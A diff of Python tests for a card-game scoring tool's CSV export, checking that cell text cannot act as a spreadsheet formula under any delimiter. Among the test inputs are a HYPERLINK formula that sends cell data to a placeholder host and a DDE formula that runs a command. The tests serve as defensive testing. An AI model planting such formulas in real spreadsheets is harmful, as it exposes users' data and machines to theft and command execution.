@@ -6,19 +6,43 @@ from io import StringIO
 
 import pytest
 from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from prefcount.ledger.amount import Amount
-from prefcount.render.machine import settlement_object, sheet_object
-from prefcount.render.report.csv import FORMULA, TABLES, hands_csv, harmless, postings_csv, results_csv
+from prefcount.render.json_objects import settlement_object, sheet_object
+from prefcount.render.report.csv import (
+    FORMULA,
+    TABLES,
+    document,
+    hands_csv,
+    harmless,
+    postings_csv,
+    results_csv,
+)
 from prefcount.session.session import Session
 from tests.helpers import header
 from tests.render.report.reading import HOSTILE, sessions
 from tests.session.files import session, void
 
+SPLIT_AT = (",", ";", "\t")
+"""Where spreadsheets split a table, by their languages."""
+TEXTS = st.text() | st.text("a1 '\"=+-@,;\t\r\n＝")
 
-def rows(table: str) -> list[list[str]]:
+
+def rows(table: str, split_at: str = ",") -> list[list[str]]:
     """A table read back."""
-    return list(csv.reader(StringIO(table, newline=""), strict=True))
+    return list(csv.reader(StringIO(table, newline=""), delimiter=split_at, strict=split_at == ","))
+
+
+def harmful(table: str) -> list[str]:
+    """Cells that are calculated with in a spreadsheet of some language, and are no figures."""
+    read = (cell for each in SPLIT_AT for row in rows(table, each) for cell in row)
+    return [cell for cell in read if cell.startswith(FORMULA) and not number(cell)]
+
+
+def shown(cell: str) -> str:
+    """A cell without the apostrophes that make it harmless."""
+    return cell.replace("'", "")
 
 
 def objects(table: str) -> list[dict[str, str]]:
@@ -52,15 +76,30 @@ def test_the_tables_say_what_the_machine_readable_output_says(played: Session) -
 @given(sessions())
 def test_nothing_in_any_game_is_a_formula(played: Session) -> None:
     for table in TABLES.values():
-        for row in rows(table(played)):
-            assert not [cell for cell in row if cell.startswith(FORMULA) and not number(cell)]
+        assert harmful(table(played)) == []
+
+
+@given(st.lists(st.lists(TEXTS, min_size=1), min_size=1))
+def test_no_text_is_a_formula_wherever_it_is_split(table: list[list[str]]) -> None:
+    """At commas, semicolons or tabs, with quotation marks in the texts; nothing but apostrophes is new."""
+    written = document(table)
+    assert harmful(written) == []
+    assert [list(map(shown, row)) for row in rows(written)] == [list(map(shown, row)) for row in table]
+
+
+@given(st.lists(st.lists(TEXTS.filter(str.strip), min_size=3, max_size=3), min_size=1))
+def test_no_text_swallows_what_follows_it(table: list[list[str]]) -> None:
+    """Wherever it is split, there are as many rows as were written, if no text has several lines."""
+    told = [[each.replace("\r", " ").replace("\n", " ") for each in row] for row in table]
+    for each in SPLIT_AT:
+        assert len(rows(document(told), each)) == len(table)
 
 
 @pytest.mark.parametrize("players", HOSTILE)
 def test_names_come_back(players: tuple[str, ...]) -> None:
     """With an apostrophe before what a spreadsheet would calculate with, else as they are."""
     read = [row["player"] for row in objects(results_csv(Session(header(players))))]
-    assert [cell.removeprefix("'") for cell in read] == list(players)
+    assert list(map(shown, read)) == list(map(shown, players))
     assert [cell.startswith("'") for cell in read] == [player.startswith(FORMULA) for player in players]
 
 
@@ -76,6 +115,13 @@ def test_names_come_back(players: tuple[str, ...]) -> None:
         ("\tx", "'\tx"),
         ("＝1", "'＝1"),
         ("a=b", "a=b"),
+        ('hello;=HYPERLINK("http://x/?"&A1);z', 'hello;\'=HYPERLINK("http://x/?"&A1);z'),
+        ("r;=cmd|'/c calc'!A1;s", "r;'=cmd|'/c calc'!A1;s"),
+        ("a\t=1", "a\t'=1"),
+        ('a;"=1', "a;'\"=1"),
+        ('a, "b";', 'a, "b";\''),
+        ("Anna said; -2 for Vera", "Anna said; -2 for Vera"),
+        ("a,=b", "a,=b"),
         ("", ""),
     ],
 )
